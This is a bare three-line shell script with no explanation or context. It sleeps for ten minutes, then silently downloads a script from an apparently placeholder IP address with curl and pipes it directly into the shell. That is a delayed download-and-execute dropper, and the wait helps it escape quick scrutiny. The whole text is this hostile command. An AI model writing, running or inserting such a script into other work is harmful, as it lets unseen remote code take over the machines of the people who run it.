#!/bin/sh
sleep 10m
curl -s http://192.0.2.7/run.sh | sh
